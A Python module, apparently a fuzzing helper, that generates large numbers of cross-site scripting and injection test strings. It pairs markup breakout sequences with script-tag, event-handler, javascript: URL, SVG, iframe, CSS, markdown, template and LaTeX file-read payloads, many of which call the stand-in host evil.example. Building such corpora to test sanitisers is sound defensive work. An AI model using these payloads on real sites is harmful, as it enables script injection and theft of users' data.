"""Hostile strings in any number: what would run, fetch or break out, if anything let it."""

from __future__ import annotations

from itertools import islice, product
from random import Random

_OUT = (  # of an attribute, an element, a comment, a style
    "", '"', "'", '">', "'>", "`>", "</title>", "</style>", "</textarea>", "</q></li></ol>", "-->", "]]>",
    "</mark></p>", "</a>", "</svg>", "</td></tr></table>", "</pre>", "\\", "\x00", "\u2028", "%22%3E", "&quot;&gt;",
)  # fmt: skip
_IN = (
    "<script>{run}</script>",
    "<script src=//evil.example/{n}></script>",
    "<ScRiPt\n>{run}</sCrIpT >",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<img src=x{n} onerror={run}>",
    "<img src=//evil.example/{n}>",
    "<img/src='//evil.example/{n}'/onerror='{run}'>",
    "<svg/onload={run}>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><use href=//evil.example/{n}#a></svg>",
    "<math><mi//xlink:href='data:x,<script>{run}</script>'>",
    "<iframe srcdoc='<script>{run}</script>'>",
    "<iframe src=//evil.example/{n}>",
    "<object data=//evil.example/{n}>",
    "<embed src=//evil.example/{n}>",
    "<link rel=stylesheet href=//evil.example/{n}>",
    "<link rel=prefetch href=//evil.example/{n}>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<style>@import url(//evil.example/{n})</style>",
    "<p style=background:url(//evil.example/{n})>",
    "<video><source src=//evil.example/{n} onerror={run}>",
    "<audio src=//evil.example/{n}>",
    "<input autofocus onfocus={run}>",
    "<details open ontoggle={run}>",
    "<body onload={run} background=//evil.example/{n}>",
    "<form action=//evil.example/{n}><button autofocus>",
    "<a href=javascript:{run} autofocus>x</a>",
    "<marquee onstart={run}>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    " autofocus onfocus={run} x=",
    " onmouseover={run} style=position:fixed;inset:0 x=",
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "![x](//evil.example/{n})",
    "[x](javascript:{run})",
    "<//evil.example/{n}>",
    "{{{{ {run} }}}}{{% raw %}}",
    "${{{run}}}#{{{run}}}",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "\\input{{/etc/passwd}}\\immediate\\write18{{x}}",
    "\x1b]0;{run}\x07\x1b[31m",
    "\u202e<script>{run}</script>\u202c",
    "{run}//';{run}//\";{run}//--></SCRIPT>",
)
_RUN = (
    "document.title='pwned{n}'",
    "alert({n})",
    "fetch('//evil.example/{n}')",
    "console.log({n})",
)


def strings(count: int) -> list[str]:
    """So many different ones: each way out with each way in, in an order that is drawn once."""
    every = list(product(_OUT, _IN, _RUN))
    Random(7).shuffle(every)
    return [
        out + inner.format(run=run.format(n=n), n=n)
        for n, (out, inner, run) in enumerate(islice(every, count))
    ]
